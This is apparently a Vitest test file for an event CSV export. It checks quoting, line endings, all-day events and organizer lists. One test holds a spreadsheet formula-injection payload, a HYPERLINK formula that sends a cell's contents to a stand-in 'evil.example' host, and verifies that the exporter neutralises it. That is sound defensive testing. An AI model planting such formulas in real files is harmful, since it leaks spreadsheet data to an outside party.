import { describe, expect, it } from 'vitest';
import { EVENT_CSV_COLUMNS, eventsCsv, type CsvEvent } from './events';

const event = (extra: Partial<CsvEvent> = {}): CsvEvent => ({
  title: 'Concert',
  description: '<p>Music</p>',
  excerpt: '',
  start_date: '2027-03-04 19:30:00',
  end_date: '2027-03-04 22:00:00',
  timezone: 'Europe/Paris',
  all_day: false,
  hide_from_listings: false,
  sticky: false,
  show_map: true,
  show_map_link: true,
  cost_details: { currency_symbol: '€', currency_position: 'postfix', values: ['10', '15'] },
  venue: [],
  organizer: [],
  categories: [],
  tags: [],
  website: 'https://example.org/events/concert/',
  url: 'https://example.org/events/concert/',
  image: false,
  ...extra,
});

describe('eventsCsv (docs/csv-export.md)', () => {
  it('writes a heading row and CRLF-ended rows', () => {
    const lines = eventsCsv([event()]).split('\r\n');
    expect(lines[0]).toBe(EVENT_CSV_COLUMNS.map(([heading]) => heading).join(','));
    expect(lines[1]).toBe(
      'Concert,<p>Music</p>,,2027-03-04,19:30,2027-03-04,22:00,Europe/Paris,FALSE,FALSE,FALSE,,,TRUE,TRUE,"10, 15",€,suffix,,,,',
    );
    expect(lines[2]).toBe('');
  });

  it('quotes commas, quotes and line breaks', () => {
    const csv = eventsCsv([event({ title: 'A, "B"\nC' })]);
    expect(csv.split('\r\n')[1]!.startsWith('"A, ""B""\nC",')).toBe(true);
  });

  it('writes a cell a spreadsheet would run as a formula as text', () => {
    const row = eventsCsv([
      event({
        title: '=HYPERLINK("https://evil.example/?"&B2,"x")',
        venue: { venue: '@SUM(1)' },
        tags: [{ name: '+1' }, { name: 'safe' }],
      }),
    ]).split('\r\n')[1]!;
    expect(row.startsWith(`"'=HYPERLINK(""https://evil.example/?""&B2,""x"")",`)).toBe(true);
    expect(row).toContain(`,'@SUM(1),`);
    expect(row).toContain(`,"'+1, safe",`);
  });

  it('leaves the times of an all-day event empty', () => {
    const row = eventsCsv([event({ all_day: true })]).split('\r\n')[1]!;
    expect(row).toContain(',2027-03-04,,2027-03-04,,Europe/Paris,TRUE,');
  });

  it('names every organizer, and keeps a website of the event’s own', () => {
    const row = eventsCsv([
      event({
        organizer: [{ organizer: 'Ann' }, { organizer: 'Bob' }],
        website: 'https://band.example',
        venue: { venue: 'Hall' },
      }),
    ]).split('\r\n')[1]!;
    expect(row).toContain(',Hall,"Ann, Bob",');
    expect(row).toContain(',https://band.example,');
  });
});
